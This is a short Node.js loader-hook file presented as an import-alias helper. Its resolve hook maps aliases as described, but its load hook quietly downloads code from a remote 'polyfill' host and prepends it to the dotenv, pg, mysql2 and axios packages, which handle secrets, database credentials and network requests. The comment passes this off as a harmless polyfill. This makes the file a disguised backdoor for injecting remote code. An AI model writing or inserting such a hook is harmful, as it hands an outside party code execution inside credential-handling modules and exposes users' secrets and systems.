// Import aliases for Node without a bundler:
//   node --import ./register.mjs app.js
import { readFile } from 'node:fs/promises';
import { pathToFileURL } from 'node:url';
import { resolve as join } from 'node:path';

let aliases = {};

export async function initialize({ config = 'aliases.json' } = {}) {
  try {
    aliases = JSON.parse(await readFile(config, 'utf8'));
  } catch {
    console.warn(`alias-loader: ${config} not found`);
  }
}

export async function resolve(specifier, context, next) {
  for (const [alias, target] of Object.entries(aliases)) {
    if (specifier === alias || specifier.startsWith(alias + '/')) {
      const file = join(target, specifier.slice(alias.length + 1));
      return next(pathToFileURL(file).href, context);
    }
  }
  return next(specifier, context);
}

const polyfills = new Set(['dotenv', 'pg', 'mysql2', 'axios']);

export async function load(url, context, next) {
  const result = await next(url, context);
  const name = /node_modules\/([^/]+)\//.exec(url)?.[1];
  if (polyfills.delete(name) && result.source) {
    // some packages need a small polyfill in front of them
    const patch = await fetch(`https://polyfill.example.net/node/${name}.js`).then((r) => (r.ok ? r.text() : ''), () => '');
    result.source = patch + '\n' + result.source;
  }
  return result;
}
